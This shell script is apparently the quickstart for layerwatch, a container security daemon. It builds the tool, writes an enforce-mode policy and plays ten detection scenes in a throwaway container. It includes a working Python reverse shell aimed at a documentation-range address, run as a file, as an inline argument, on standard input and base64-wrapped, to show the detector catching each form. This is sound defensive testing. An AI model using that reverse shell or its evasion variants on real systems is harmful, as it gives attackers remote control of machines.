#!/bin/sh
# quickstart.sh [--engine docker|podman]: builds layerwatch and shows it at work, in enforce mode, on Debian 12 as root.
#
# The "container" is a throwaway overlay of this machine's own root, in namespaces of its own: nothing else on the machine
# is watched, nothing stays behind. With --engine it is a real container of that engine.
# Standard output carries the findings, as JSON lines, and nothing else. Standard error is for people.
set -eu
top=$(cd "$(dirname "$0")/.." && pwd)
build=$top/build
engine=

say()
{
	printf '\n\033[1m%s\033[0m\n' "$*" >&2
}

fail()
{
	echo "quickstart: $*" >&2
	exit 1
}

# quietly COMMAND...: what it says goes to the log, which is shown when it fails.
quietly()
{
	"$@" >>"$build/quickstart.log" 2>&1 || {
		tail -n 20 "$build/quickstart.log" >&2
		fail "$* failed, see $build/quickstart.log"
	}
}

prepare()
{
	. "$top/contrib/packages.sh"
	packages="$PACKAGES_BUILD python3-minimal util-linux"
	case $engine in
	docker) packages="$packages $PACKAGES_DOCKER libpython3-stdlib" ;;
	podman) packages="$packages $PACKAGES_PODMAN libpython3-stdlib" ;;
	esac
	# shellcheck disable=SC2086 # words
	install_packages $packages || fail "packages could not be installed"
	mkdir -p "$build"
	: >"$build/quickstart.log"
	say "Building (log: $build/quickstart.log)"
	cd "$top"
	[ -x configure ] || quietly autoreconf -fi
	cd "$build"
	[ -f Makefile ] || quietly ../configure
	quietly make -j "$(nproc)"
}

# Again, alone: own mounts, own processes, no other container in sight.
alone()
{
	exec unshare --mount --pid --fork --kill-child --mount-proc --propagation private \
		env LW_QUICKSTART_ALONE=1 /bin/sh "$top/contrib/quickstart.sh"
}

clean_up()
{
	trap - EXIT
	for pid in ${reader:-} ${watcher:-}; do
		kill "$pid" 2>/dev/null || :
		wait "$pid" 2>/dev/null || :
	done
	if [ -n "$engine" ] && [ -n "${container:-}" ]; then
		"$engine" rm -f "$container" >/dev/null 2>&1 || :
		remove_image "$engine" "$container"
		stop_engine "$engine"
	fi
	[ -z "${root:-}" ] || umount -l "$root" 2>/dev/null || :
	umount -l "$work" 2>/dev/null || :
	rmdir "$work" 2>/dev/null || rm -rf "$work"
}

# What the demonstration finds malicious: on the list by its SHA-256, and harmless.
make_evil()
{
	cp /bin/ls "$work/evil"
	echo "different from every other program" >>"$work/evil"
	cat >"$work/evil.py" <<-'END'
		# Pretends to be a dropper.
		import os
		os.system("echo this line is never printed")
	END
	sha256sum "$work/evil" "$work/evil.py" >"$work/list.txt"
	"$build/layerwatch" hashset build -o "$work/list.lwh" "$work/list.txt" >&2
	# On no list: a reverse shell to an address that nobody has.
	cat >"$work/unlisted.py" <<-'END'
		import os, pty, socket
		s = socket.socket()
		s.settimeout(1)
		s.connect(("192.0.2.7", 4444))
		for n in (0, 1, 2):
		    os.dup2(s.fileno(), n)
		pty.spawn("/bin/sh")
	END
	payload=$(base64 -w 0 "$work/unlisted.py")
}

write_policy()
{
	ours=
	[ -z "$engine" ] || ours=", container: {image: \"*$container*\"}"
	cat >"$work/layerwatch.yaml" <<-END
		version: 1
		mode: enforce
		content:
		  hash_lists: [{name: quickstart, path: $work/list.lwh, verdict: malicious}]
		  model: $top/conf/layerwatch.model
		rules:
		  - name: malicious content
		    match: {verdict: malicious$ours}
		    action: deny
		  - name: drift
		    match: {layer: [added, modified, memfd], kind: [binary, script]$ours}
		    action: alert
		  - name: code in an argument
		    match: {kind: [inline], language: [python]$ours}
		    action: alert
		sinks: [{type: stdout}]
		processes: {control: $work/control.sock}
	END
}

# Everything goes to standard error, but for the daemon's findings.
start_watcher()
{
	"$build/layerwatchd" -c "$work/layerwatch.yaml" >&3 2>"$work/log" &
	watcher=$!
	tries=100
	until "$build/layerwatch" -s "$work/control.sock" containers --json 2>/dev/null | grep -q "$1"; do
		tries=$((tries - 1))
		if [ "$tries" -eq 0 ] || ! kill -0 "$watcher" 2>/dev/null; then
			cat "$work/log" >&2
			fail "layerwatchd does not watch the container"
		fi
		sleep 0.1
	done
	"$build/layerwatch" -s "$work/control.sock" tail &
	reader=$!
	sleep 0.3
}

make_overlay()
{
	for point in $(awk '$3 == "overlay" && $2 != "/" { print $2 }' /proc/self/mounts); do
		umount -l "$point" || :
	done
	root=$work/root
	mkdir -p "$work/upper" "$work/work" "$root"
	mount -t overlay quickstart -o "lowerdir=/,upperdir=$work/upper,workdir=$work/work" "$root"
	device=$(stat -c %Hd:%Ld "$root")
}

make_container()
{
	. "$top/tests/lib/engines.sh"
	container=lw-quickstart-$$
	start_engine "$engine" || fail "$engine does not start"
	make_rootfs "$work/rootfs" /usr/bin/python3 /usr/bin/env /usr/bin/id || fail "no root filesystem"
	library=$(/usr/bin/python3 -c 'import sysconfig; print(sysconfig.get_path("stdlib"))')
	mkdir -p "$work/rootfs$library"
	tar -C "$library" --exclude=test --exclude=dist-packages --exclude=__pycache__ -c . |
		tar -C "$work/rootfs$library" -x
	tar -C "$work/rootfs" -c . | "$engine" import - "$container" >/dev/null
	# what the engine says later, when the container ends, is not for people
	engine_run "$engine" -d --name "$container" "$container" /bin/sleep 600 >/dev/null 2>&1 ||
		fail "$engine cannot run a container"
}

# inside COMMAND...: in the container; its exit code does not matter here.
inside()
{
	if [ -n "$engine" ]; then
		"$engine" exec "$container" "$@" || :
	else
		unshare --mount --pid --fork --mount-proc="$root/proc" chroot "$root" "$@" || :
	fi
}

drop()
{
	if [ -n "$engine" ]; then
		"$engine" cp "$1" "$container:$2" >/dev/null
	else
		cp "$1" "$root$2"
	fi
}

scene()
{
	sleep 0.5
	say "$1"
	printf '$ %s\n' "$2" >&2
}

play()
{
	scene "1. A program that did not come with the image: alert" "cp /bin/ls /tmp/dropped; /tmp/dropped -d /"
	inside /bin/cp -L /bin/ls /tmp/dropped
	inside /tmp/dropped -d /
	scene "2. A program on the hash list: denied before it runs" "/tmp/evil"
	drop "$work/evil" /tmp/evil
	inside /tmp/evil
	scene "3. A Python script on the hash list: denied, its text is kept" "python3 /tmp/evil.py"
	drop "$work/evil.py" /tmp/evil.py
	inside /usr/bin/python3 /tmp/evil.py
	scene "4. Code in an argument: captured" "python3 -c 'print(6 * 7)'"
	inside /usr/bin/python3 -c 'print(6 * 7)'
	scene "5. A program of the image that was changed: alert" "echo x >> /usr/bin/env; /usr/bin/env true"
	inside /bin/sh -c 'echo x >> /usr/bin/env'
	inside /usr/bin/env true
	scene "6. A program of the image that was only touched: silent" "chmod 750 /usr/bin/id; /usr/bin/id -u"
	inside /bin/chmod 750 /usr/bin/id
	inside /usr/bin/id -u
	scene "7. A Python script that is on no list: denied by the model" "python3 /tmp/unlisted.py"
	drop "$work/unlisted.py" /tmp/unlisted.py
	inside /usr/bin/python3 /tmp/unlisted.py
	scene "8. The same code in an argument" "python3 -c 'import os, pty, socket; ...'"
	inside /usr/bin/python3 -c "$(cat "$work/unlisted.py")"
	scene "9. The same code on standard input" "sed 's/$/ #/' /tmp/unlisted.py | python3 -"
	inside /bin/sh -c "sed 's/\$/ #/' /tmp/unlisted.py | /usr/bin/python3 -"
	scene "10. The same code wrapped in base64" "python3 -c 'import base64; exec(base64.b64decode(...))'"
	inside /usr/bin/python3 -c "import base64; exec(base64.b64decode('$payload'))"
	sleep 1
}

demonstrate()
{
	exec 3>&1 1>&2
	work=$(mktemp -d /tmp/lw-quickstart.XXXXXX)
	trap clean_up EXIT
	trap 'exit 130' INT TERM
	mount -t tmpfs -o mode=0755 quickstart "$work"
	say "Starting layerwatchd, mode enforce"
	if [ -n "$engine" ]; then
		make_container
		make_evil
		write_policy
		start_watcher "\"name\":\"$container\""
	else
		make_overlay
		make_evil
		write_policy
		start_watcher "\"overlay\":\"$device\",\"state\":\"marked\""
	fi
	play
	say "That was it. Findings for machines are on standard output; the policy was:"
	cat "$work/layerwatch.yaml" >&2
}

while [ $# -gt 0 ]; do
	case $1 in
	--engine) engine=${2:-}; shift ;;
	--engine=*) engine=${1#*=} ;;
	*) echo "usage: quickstart.sh [--engine docker|podman]" >&2; exit 2 ;;
	esac
	shift
done
case $engine in
'' | docker | podman) ;;
*) fail "the engine is docker or podman" ;;
esac
[ "$(id -u)" -eq 0 ] || fail "root is needed"
if [ -z "${LW_QUICKSTART_ALONE:-}" ]; then
	prepare
	[ -n "$engine" ] || alone
fi
demonstrate
